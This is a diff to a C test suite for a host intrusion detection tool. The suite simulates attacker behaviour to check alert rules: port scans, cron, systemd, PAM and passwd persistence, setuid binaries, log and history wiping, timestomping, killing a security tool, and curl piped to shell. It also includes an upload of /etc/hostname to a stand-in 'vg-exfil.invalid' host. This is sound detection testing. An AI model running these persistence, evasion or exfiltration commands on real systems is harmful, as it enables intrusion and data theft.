@@ -37,17 +37,6 @@ static void teardown(void)
 
 TestSuite(detect, .init = setup, .fini = teardown, .timeout = 120);
 
-static void sh(const char *fmt, ...)
-{
-	char cmd[4096];
-	va_list ap;
-
-	va_start(ap, fmt);
-	vsnprintf(cmd, sizeof(cmd), fmt, ap);
-	va_end(ap);
-	cr_assert_eq(system(cmd), 0, "%s", cmd);
-}
-
 static long long rule_alerts(const char *rule)
 {
 	return vg_t_wait_int(&host, 0, 0, "SELECT count(*) FROM AlertInfo WHERE RuleId = '%s'",
@@ -69,8 +58,8 @@ Test(detect, a_1000_port_scan_is_one_alert_with_1000_evidence_rows)
 	int l[25];
 
 	/* the near misses first: once the scan's alert is complete, their rows were judged */
-	sh("bash -c 'for i in 1 2 3; do (echo > /dev/tcp/127.0.0.1/9) 2>/dev/null && break; "
-	   "done; true'");
+	vg_t_sh("bash -c 'for i in 1 2 3; do (echo > /dev/tcp/127.0.0.1/9) 2>/dev/null && break; "
+		"done; true'");
 	for (int i = 0; i < 25; i++) {
 		socklen_t len = sizeof(sa);
 
@@ -83,11 +72,11 @@ Test(detect, a_1000_port_scan_is_one_alert_with_1000_evidence_rows)
 	}
 	snprintf(cmd + strlen(cmd), sizeof(cmd) - strlen(cmd),
 		 "; do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done; true'");
-	sh("%s", cmd);
+	vg_t_sh("%s", cmd);
 	for (int i = 0; i < 25; i++)
 		close(l[i]);
-	sh("bash -c 'for p in $(seq 41000 41999); do (echo > /dev/tcp/127.0.0.1/$p) "
-	   "2>/dev/null; done; true'");
+	vg_t_sh("bash -c 'for p in $(seq 41000 41999); do (echo > /dev/tcp/127.0.0.1/$p) "
+		"2>/dev/null; done; true'");
 	cr_assert_eq(
 		vg_t_wait_int(&host, 1000, 30000,
 			      "SELECT EvidenceCount FROM AlertInfo WHERE RuleId = 'port_scan'"),
@@ -207,8 +196,8 @@ Test(detect, an_event_before_an_exec_names_the_program_of_its_time)
 
 	vg_t_tmpdir(dir, sizeof(dir), "vg-attrib");
 	for (int i = 0; i < n; i++)
-		sh("/bin/sh -c 'echo x > %s/unit%d.service; exec /bin/true vg-attrib-marker'", dir,
-		   i);
+		vg_t_sh("/bin/sh -c 'echo x > %s/unit%d.service; exec /bin/true vg-attrib-marker'",
+			dir, i);
 	cr_assert_eq(vg_t_wait_int(&host, n, 30000,
 				   "SELECT count(*) FROM DeviceFileEvents WHERE FolderPath LIKE"
 				   " '%s/unit%%.service' AND ActionType = 'FileCreated'",
@@ -241,7 +230,7 @@ static long long alerts_for(const char *rule, const char *like, long long want, 
 /* A copy of program at dir/name (a stand-in for a tool, or a masquerading binary). */
 static void fake_tool(const char *dir, const char *name, const char *program)
 {
-	sh("cp %s '%s/%s'", program, dir, name);
+	vg_t_sh("cp %s '%s/%s'", program, dir, name);
 }
 
 /*
@@ -266,20 +255,20 @@ Test(detect, persistence_writes_alert_and_package_managers_do_not)
 	vg_t_tmpdir(dir, sizeof(dir), "vg-persist");
 	fake_tool(dir, "dpkg", "/bin/cp");
 	/* near misses first: once the real writes' alerts are there, these were judged */
-	sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc &&"
-	   " mkdir -p /etc/cron.d /etc/systemd/system /etc/pam.d &&"
-	   " %s/dpkg /dev/null /etc/cron.d/vgpkg && %s/dpkg /dev/null /etc/pam.d/vgpkg &&"
-	   " %s/dpkg /dev/null /etc/systemd/system/vgpkg.service && cp /dev/null /etc/cron.dx &&"
-	   " echo x > /etc/systemd/system/vgpkg.wants && echo x > /etc/pam.d.vgpkg'",
-	   dir, dir, dir);
-	sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc &&"
-	   " mkdir -p /etc/cron.d /etc/systemd/system /etc/pam.d &&"
-	   " echo \"* * * * * root id\" > /etc/cron.d/vgjob &&"
-	   " echo [Service] > /etc/systemd/system/vgjob.service &&"
-	   " echo > /etc/ld.so.preload && echo auth > /etc/pam.d/vgjob &&"
-	   " echo vgjob:x:0:0::/root:/bin/sh >> /etc/passwd'");
-	sh("mkdir -p %s/.ssh && echo vgjob >> %s/.bashrc && echo vgjob >> %s/.ssh/authorized_keys",
-	   dir, dir, dir);
+	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc &&"
+		" mkdir -p /etc/cron.d /etc/systemd/system /etc/pam.d &&"
+		" %s/dpkg /dev/null /etc/cron.d/vgpkg && %s/dpkg /dev/null /etc/pam.d/vgpkg &&"
+		" %s/dpkg /dev/null /etc/systemd/system/vgpkg.service && cp /dev/null /etc/cron.dx &&"
+		" echo x > /etc/systemd/system/vgpkg.wants && echo x > /etc/pam.d.vgpkg'",
+		dir, dir, dir);
+	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc &&"
+		" mkdir -p /etc/cron.d /etc/systemd/system /etc/pam.d &&"
+		" echo \"* * * * * root id\" > /etc/cron.d/vgjob &&"
+		" echo [Service] > /etc/systemd/system/vgjob.service &&"
+		" echo > /etc/ld.so.preload && echo auth > /etc/pam.d/vgjob &&"
+		" echo vgjob:x:0:0::/root:/bin/sh >> /etc/passwd'");
+	vg_t_sh("mkdir -p %s/.ssh && echo vgjob >> %s/.bashrc && echo vgjob >> %s/.ssh/authorized_keys",
+		dir, dir, dir);
 	cr_expect_eq(alerts_for("persist_cron", "/etc/cron.d/vgjob", 1, 30000), 1);
 	cr_expect_eq(alerts_for("persist_systemd", "vgjob.service", 1, 30000), 1);
 	cr_expect_eq(alerts_for("persist_ld_preload", "/etc/ld.so.preload", 1, 30000), 1);
@@ -300,21 +289,21 @@ Test(detect, setid_history_log_aslr_and_masquerading)
 
 	vg_t_tmpdir(dir, sizeof(dir), "vg-evade");
 	/* near misses: a plain chmod, history appended to, another log removed, ASLR read */
-	sh("cd %s && cp /bin/true plain && chmod 755 plain && echo ls >> .bash_history &&"
-	   " cat /proc/sys/kernel/randomize_va_space > /dev/null && cp /bin/true vgok && ./vgok",
-	   dir);
-	sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /var/log &&"
-	   " echo x > /var/log/vgold.log && rm /var/log/vgold.log'");
+	vg_t_sh("cd %s && cp /bin/true plain && chmod 755 plain && echo ls >> .bash_history &&"
+		" cat /proc/sys/kernel/randomize_va_space > /dev/null && cp /bin/true vgok && ./vgok",
+		dir);
+	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /var/log &&"
+		" echo x > /var/log/vgold.log && rm /var/log/vgold.log'");
 	/* the real ones */
-	sh("cd %s && cp /bin/true rootsh && chmod 4755 rootsh && rm .bash_history &&"
-	   " echo x > .zsh_history && : > .zsh_history",
-	   dir);
-	sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /var/log &&"
-	   " echo x > /var/log/wtmp && rm /var/log/wtmp'");
+	vg_t_sh("cd %s && cp /bin/true rootsh && chmod 4755 rootsh && rm .bash_history &&"
+		" echo x > .zsh_history && : > .zsh_history",
+		dir);
+	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /var/log &&"
+		" echo x > /var/log/wtmp && rm /var/log/wtmp'");
 	/* the value it has, written back: a write all the same */
-	sh("v=$(cat /proc/sys/kernel/randomize_va_space) &&"
-	   " echo $v > /proc/sys/kernel/randomize_va_space && setarch $(uname -m) -R /bin/true");
-	sh("cd %s && cp /bin/true sshd && ./sshd", dir);
+	vg_t_sh("v=$(cat /proc/sys/kernel/randomize_va_space) &&"
+		" echo $v > /proc/sys/kernel/randomize_va_space && setarch $(uname -m) -R /bin/true");
+	vg_t_sh("cd %s && cp /bin/true sshd && ./sshd", dir);
 
 	cr_expect_eq(alerts_for("privesc_setid_chmod", "rootsh", 1, 30000), 1);
 	cr_expect_eq(alerts_for("evasion_history", "/.bash_history", 1, 30000), 1);
@@ -342,17 +331,17 @@ Test(detect, pipe_to_shell_base64_discovery_and_exfiltration)
 	vg_t_tmpdir(dir, sizeof(dir), "vg-exec");
 	fake_tool(dir, "curl", "/bin/true");
 	/* near misses: a download to a file, decoding to a file, 7 discovery tools, a GET */
-	sh("%s/curl -o %s/x https://vg-near.invalid/x && echo aGk= | base64 -d > /dev/null", dir,
-	   dir);
-	sh("/bin/sh -c 'id; whoami; uname -a; df; env; nproc; groups; echo vg-few' > /dev/null");
-	sh("%s/curl -s https://vg-near.invalid/get", dir);
+	vg_t_sh("%s/curl -o %s/x https://vg-near.invalid/x && echo aGk= | base64 -d > /dev/null",
+		dir, dir);
+	vg_t_sh("/bin/sh -c 'id; whoami; uname -a; df; env; nproc; groups; echo vg-few' > /dev/null");
+	vg_t_sh("%s/curl -s https://vg-near.invalid/get", dir);
 	/* the real ones */
 	/* system()'s shell is the one whose command line pipes */
-	sh("%s/curl -fsSL https://vg-pipe.invalid/i.sh | sh", dir);
-	sh("echo dHJ1ZQo= | base64 -d | sh");
-	sh("/bin/sh -c 'id; whoami; uname -a; df; env; nproc; groups; printenv; mount; echo vg-many'"
-	   " > /dev/null");
-	sh("%s/curl -T /etc/hostname https://vg-exfil.invalid/up", dir);
+	vg_t_sh("%s/curl -fsSL https://vg-pipe.invalid/i.sh | sh", dir);
+	vg_t_sh("echo dHJ1ZQo= | base64 -d | sh");
+	vg_t_sh("/bin/sh -c 'id; whoami; uname -a; df; env; nproc; groups; printenv; mount; echo vg-many'"
+		" > /dev/null");
+	vg_t_sh("%s/curl -T /etc/hostname https://vg-exfil.invalid/up", dir);
 
 	cr_expect_eq(alerts_for("exec_pipe_to_shell", "vg-pipe", 1, 30000), 1);
 	cr_expect_eq(alerts_for("exec_base64_script", "dHJ1ZQo=", 1, 30000), 1);
@@ -388,10 +377,10 @@ Test(detect, a_script_counts_as_the_script_not_its_interpreter)
 
 	vg_t_tmpdir(dir, sizeof(dir), "vg-script");
 	fake_tool(dir, "curl", "/bin/cp");
-	sh("cd %s && mkdir src && printf '#!/bin/sh\\nexit 0\\n' > src/x.sh &&"
-	   " printf 'exit 0\\n' > src/y.sh && sh -c 'exit 0'",
-	   dir);
-	sh("cd %s && ./curl src/x.sh x.sh && chmod +x x.sh && ./x.sh && sh src/y.sh", dir);
+	vg_t_sh("cd %s && mkdir src && printf '#!/bin/sh\\nexit 0\\n' > src/x.sh &&"
+		" printf 'exit 0\\n' > src/y.sh && sh -c 'exit 0'",
+		dir);
+	vg_t_sh("cd %s && ./curl src/x.sh x.sh && chmod +x x.sh && ./x.sh && sh src/y.sh", dir);
 	cr_expect_eq(
 		vg_t_wait_int(&host, 1, 30000,
 			      "SELECT count(*) FROM DeviceProcessEvents WHERE ActionType ="
@@ -442,25 +431,25 @@ Test(detect, systemd_enable_setcap_and_chattr)
 	fake_tool(dir, "dpkg", "/bin/ln");
 	snprintf(near, sizeof(near), "%s/near", dir);
 	/* near misses first: once the real ones' alerts are there, these were judged */
-	sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc/systemd/system &&"
-	   " mkdir /etc/systemd/system/multi-user.target.wants && echo > /etc/vgpkg.service &&"
-	   " %s/dpkg -s /etc/vgpkg.service /etc/systemd/system/multi-user.target.wants/vgpkg.service'",
-	   dir);
-	sh("mkdir -p %s/x.wants && ln -s /bin/true %s/x.wants/vgnear.service", dir, dir);
-	sh("cd %s && cp /bin/true near && setcap -v cap_setuid+ep /bin/true >/dev/null 2>&1;"
-	   " python3 -c 'import os; os.setxattr(\"near\", \"user.vg\", b\"1\")' &&"
-	   " chattr +i near && chattr -i near",
-	   dir);
-	sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc &&"
-	   " echo x > /etc/vgnear.conf && chattr +d /etc/vgnear.conf'");
+	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc/systemd/system &&"
+		" mkdir /etc/systemd/system/multi-user.target.wants && echo > /etc/vgpkg.service &&"
+		" %s/dpkg -s /etc/vgpkg.service /etc/systemd/system/multi-user.target.wants/vgpkg.service'",
+		dir);
+	vg_t_sh("mkdir -p %s/x.wants && ln -s /bin/true %s/x.wants/vgnear.service", dir, dir);
+	vg_t_sh("cd %s && cp /bin/true near && setcap -v cap_setuid+ep /bin/true >/dev/null 2>&1;"
+		" python3 -c 'import os; os.setxattr(\"near\", \"user.vg\", b\"1\")' &&"
+		" chattr +i near && chattr -i near",
+		dir);
+	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc &&"
+		" echo x > /etc/vgnear.conf && chattr +d /etc/vgnear.conf'");
 	/* the real ones */
-	sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc/systemd/system &&"
-	   " printf \"[Service]\\nExecStart=/bin/true\\n[Install]\\nWantedBy=multi-user.target\\n\""
-	   " > /etc/systemd/system/vgjob.service &&"
-	   " SYSTEMD_OFFLINE=1 systemctl enable vgjob.service 2>/dev/null'");
-	sh("cd %s && cp /bin/true vgcap && setcap cap_setuid+ep vgcap", dir);
-	sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc &&"
-	   " echo x > /etc/vgjob.conf && chattr +i /etc/vgjob.conf && chattr -i /etc/vgjob.conf'");
+	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc/systemd/system &&"
+		" printf \"[Service]\\nExecStart=/bin/true\\n[Install]\\nWantedBy=multi-user.target\\n\""
+		" > /etc/systemd/system/vgjob.service &&"
+		" SYSTEMD_OFFLINE=1 systemctl enable vgjob.service 2>/dev/null'");
+	vg_t_sh("cd %s && cp /bin/true vgcap && setcap cap_setuid+ep vgcap", dir);
+	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc &&"
+		" echo x > /etc/vgjob.conf && chattr +i /etc/vgjob.conf && chattr -i /etc/vgjob.conf'");
 
 	cr_expect_eq(alerts_for("persist_systemd_enable", "multi-user.target.wants/vgjob.service",
 				1, 30000),
@@ -512,21 +501,21 @@ Test(detect, timestomp_security_tool_killed_and_ld_preload)
 	fake_tool(dir, "vgsleep", "/bin/sleep");
 	fake_tool(dir, "vgpre.so", "/lib/x86_64-linux-gnu/libm.so.6");
 	/* near misses first */
-	sh("cd %s && cp -p /bin/true vgcopy && touch vgplain", dir);
+	vg_t_sh("cd %s && cp -p /bin/true vgcopy && touch vgplain", dir);
 	other = start_stored(dir, "vgsleep");
-	sh("kill -9 %d", other);
+	vg_t_sh("kill -9 %d", other);
 	cr_assert_eq(waitpid(other, &st, 0), other);
-	sh("LD_PRELOAD=/lib/x86_64-linux-gnu/libm.so.6 /bin/true vg-near-preload &&"
-	   " LD_LIBRARY_PATH=%s /bin/true vg-near-libpath",
-	   dir);
+	vg_t_sh("LD_PRELOAD=/lib/x86_64-linux-gnu/libm.so.6 /bin/true vg-near-preload &&"
+		" LD_LIBRARY_PATH=%s /bin/true vg-near-libpath",
+		dir);
 	/* the real ones */
-	sh("cd %s && echo x > ts.txt && touch -a -t 197001010000.00 ts.txt &&"
-	   " touch -m -t 197001010000.00 ts.txt && touch -acmr /bin/sh ts.txt",
-	   dir);
+	vg_t_sh("cd %s && echo x > ts.txt && touch -a -t 197001010000.00 ts.txt &&"
+		" touch -m -t 197001010000.00 ts.txt && touch -acmr /bin/sh ts.txt",
+		dir);
 	tool = start_stored(dir, "falco");
-	sh("kill -9 %d", tool);
+	vg_t_sh("kill -9 %d", tool);
 	cr_assert_eq(waitpid(tool, &st, 0), tool);
-	sh("LD_PRELOAD=%s/vgpre.so /bin/true vg-preload-marker", dir);
+	vg_t_sh("LD_PRELOAD=%s/vgpre.so /bin/true vg-preload-marker", dir);
 
 	cr_expect_eq(alerts_for("evasion_timestomp", "/ts.txt", 1, 30000), 1);
 	cr_expect_eq(vg_t_wait_int(&host, 3, 30000,
@@ -567,9 +556,9 @@ Test(detect, a_script_without_shebang_run_by_bash_is_the_script)
 	char dir[PATH_MAX];
 
 	vg_t_tmpdir(dir, sizeof(dir), "vg-noshebang");
-	sh("cd %s && printf 'exit 0\\n' > plain.sh && printf '#!/bin/sh\\nexit 0\\n' > bang.sh &&"
-	   " chmod +x plain.sh bang.sh && bash -c './plain.sh; ./bang.sh; true'",
-	   dir);
+	vg_t_sh("cd %s && printf 'exit 0\\n' > plain.sh && printf '#!/bin/sh\\nexit 0\\n' > bang.sh &&"
+		" chmod +x plain.sh bang.sh && bash -c './plain.sh; ./bang.sh; true'",
+		dir);
 	cr_expect_eq(
 		vg_t_wait_int(&host, 1, 30000,
 			      "SELECT count(*) FROM DeviceProcessEvents WHERE ActionType ="
@@ -623,26 +612,27 @@ Test(detect, a_package_maintainer_script_is_not_an_attack)
 	vg_t_tmpdir(dir, sizeof(dir), "vg-maint");
 	snprintf(deb, sizeof(deb), "%s/%s.deb", dir, pkg);
 	apt("purge", pkg); /* a run killed before its purge */
-	sh("cd %s && mkdir -p p/DEBIAN p/usr/lib/%s p/lib/systemd/system &&"
-	   " cp /bin/true p/usr/lib/%s/helper && cp /bin/true p/usr/lib/%s/helper2 &&"
-	   " printf '[Service]\\nExecStart=/bin/true\\n[Install]\\nWantedBy=multi-user.target\\n'"
-	   " > p/lib/systemd/system/%s.service &&"
-	   " printf 'Package: %s\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: vigil"
-	   " <vigil@localhost>\\nDescription: vigil detect test\\n' > p/DEBIAN/control",
-	   dir, pkg, pkg, pkg, pkg, pkg);
-	sh("cd %s && printf '#!/bin/sh\\nset -e\\nif [ \"$1\" = configure ]; then\\n"
-	   "setcap cap_net_raw+ep /usr/lib/%s/helper\\nchmod u+s /usr/lib/%s/helper2\\n"
-	   "update-alternatives --quiet --install /usr/bin/%s %s /usr/lib/%s/helper 10\\n"
-	   "deb-systemd-helper enable %s.service >/dev/null || true\\n"
-	   "SYSTEMD_OFFLINE=1 systemctl enable %s.service >/dev/null 2>&1 || true\\n"
-	   "echo \"# %s\" > /etc/pam.d/%s\\nfi\\n' > p/DEBIAN/postinst &&"
-	   " printf '#!/bin/sh\\nset -e\\nupdate-alternatives --quiet --remove %s /usr/lib/%s/helper\\n"
-	   "SYSTEMD_OFFLINE=1 systemctl disable %s.service >/dev/null 2>&1 || true\\n' > p/DEBIAN/prerm &&"
-	   " printf '#!/bin/sh\\nrm -f /etc/pam.d/%s /etc/systemd/system/multi-user.target.wants/%s.service\\n"
-	   "deb-systemd-helper purge %s.service >/dev/null 2>&1 || true\\n' > p/DEBIAN/postrm &&"
-	   " chmod 755 p/DEBIAN/postinst p/DEBIAN/prerm p/DEBIAN/postrm &&"
-	   " dpkg-deb -Zgzip --root-owner-group -b p %s >/dev/null",
-	   dir, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, deb);
+	vg_t_sh("cd %s && mkdir -p p/DEBIAN p/usr/lib/%s p/lib/systemd/system &&"
+		" cp /bin/true p/usr/lib/%s/helper && cp /bin/true p/usr/lib/%s/helper2 &&"
+		" printf '[Service]\\nExecStart=/bin/true\\n[Install]\\nWantedBy=multi-user.target\\n'"
+		" > p/lib/systemd/system/%s.service &&"
+		" printf 'Package: %s\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: vigil"
+		" <vigil@localhost>\\nDescription: vigil detect test\\n' > p/DEBIAN/control",
+		dir, pkg, pkg, pkg, pkg, pkg);
+	vg_t_sh("cd %s && printf '#!/bin/sh\\nset -e\\nif [ \"$1\" = configure ]; then\\n"
+		"setcap cap_net_raw+ep /usr/lib/%s/helper\\nchmod u+s /usr/lib/%s/helper2\\n"
+		"update-alternatives --quiet --install /usr/bin/%s %s /usr/lib/%s/helper 10\\n"
+		"deb-systemd-helper enable %s.service >/dev/null || true\\n"
+		"SYSTEMD_OFFLINE=1 systemctl enable %s.service >/dev/null 2>&1 || true\\n"
+		"echo \"# %s\" > /etc/pam.d/%s\\nfi\\n' > p/DEBIAN/postinst &&"
+		" printf '#!/bin/sh\\nset -e\\nupdate-alternatives --quiet --remove %s /usr/lib/%s/helper\\n"
+		"SYSTEMD_OFFLINE=1 systemctl disable %s.service >/dev/null 2>&1 || true\\n' > p/DEBIAN/prerm &&"
+		" printf '#!/bin/sh\\nrm -f /etc/pam.d/%s /etc/systemd/system/multi-user.target.wants/%s.service\\n"
+		"deb-systemd-helper purge %s.service >/dev/null 2>&1 || true\\n' > p/DEBIAN/postrm &&"
+		" chmod 755 p/DEBIAN/postinst p/DEBIAN/prerm p/DEBIAN/postrm &&"
+		" dpkg-deb -Zgzip --root-owner-group -b p %s >/dev/null",
+		dir, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg,
+		deb);
 	/* the near miss first: once the shell's alerts are there, it was judged */
 	cr_assert_eq(apt("install", deb), 0, "apt-get install %s", deb);
 	cr_expect_eq(vg_t_wait_int(&host, 1, 30000,
@@ -662,11 +652,11 @@ Test(detect, a_package_maintainer_script_is_not_an_attack)
 		     1);
 	cr_expect_eq(apt("purge", pkg), 0, "apt-get purge %s", pkg);
 	/* the same, by hand */
-	sh("cd %s && cp /bin/true vghand && cp /bin/true vghand2 &&"
-	   " sh -c 'setcap cap_net_raw+ep vghand && chmod u+s vghand2'",
-	   dir);
-	sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc/pam.d &&"
-	   " echo \"# vghand\" > /etc/pam.d/vghand'");
+	vg_t_sh("cd %s && cp /bin/true vghand && cp /bin/true vghand2 &&"
+		" sh -c 'setcap cap_net_raw+ep vghand && chmod u+s vghand2'",
+		dir);
+	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc/pam.d &&"
+		" echo \"# vghand\" > /etc/pam.d/vghand'");
 	cr_expect_eq(alerts_for("privesc_setcap", "/vghand", 1, 30000), 1);
 	cr_expect_eq(alerts_for("privesc_setid_chmod", "/vghand2", 1, 30000), 1);
 	cr_expect_eq(alerts_for("persist_pam", "/etc/pam.d/vghand", 1, 30000), 1);
@@ -690,9 +680,9 @@ Test(detect, a_parent_stopping_its_security_tool_is_no_attack)
 	fake_tool(dir, "falco", "/bin/sleep");
 	fake_tool(dir, "auditd", "/bin/sleep");
 	/* near miss: the shell that started it stops it (kill is the shell's own) */
-	sh("cd %s && sh -c './falco 300 & sleep 0.2; kill -TERM $!; wait $! || true'", dir);
+	vg_t_sh("cd %s && sh -c './falco 300 & sleep 0.2; kill -TERM $!; wait $! || true'", dir);
 	tool = start_stored(dir, "auditd");
-	sh("kill -TERM %d", tool);
+	vg_t_sh("kill -TERM %d", tool);
 	cr_assert_eq(waitpid(tool, &st, 0), tool);
 	cr_expect_eq(alerts_for("evasion_kill_security_tool", "/auditd", 1, 30000), 1);
 	cr_expect_eq(vg_t_wait_int(&host, 1, 30000,
@@ -714,12 +704,12 @@ Test(detect, a_git_checkout_in_tmp_is_the_developers_own)
 	char dir[PATH_MAX];
 
 	vg_t_tmpdir(dir, sizeof(dir), "vg-clone");
-	sh("cd %s && git init -q origin && cd origin && printf '#!/bin/sh\\nexit 0\\n' > run.sh &&"
-	   " chmod +x run.sh && git add run.sh && git -c user.name=vg -c user.email=vg@localhost"
-	   " commit -qm x && cd .. && git clone -q origin clone && ./clone/run.sh vg-clone-near &&"
-	   " sh clone/run.sh vg-clone-near",
-	   dir);
-	sh("cd %s && cp clone/run.sh copied.sh && ./copied.sh vg-clone-copy", dir);
+	vg_t_sh("cd %s && git init -q origin && cd origin && printf '#!/bin/sh\\nexit 0\\n' > run.sh &&"
+		" chmod +x run.sh && git add run.sh && git -c user.name=vg -c user.email=vg@localhost"
+		" commit -qm x && cd .. && git clone -q origin clone && ./clone/run.sh vg-clone-near &&"
+		" sh clone/run.sh vg-clone-near",
+		dir);
+	vg_t_sh("cd %s && cp clone/run.sh copied.sh && ./copied.sh vg-clone-copy", dir);
 	cr_expect_eq(alerts_for("exec_from_tmp", "/copied.sh", 1, 30000), 1);
 	cr_expect_eq(alerts_for("exec_from_tmp", "/clone/run.sh", 0, 0), 0);
 	vg_t_rmrf(dir);
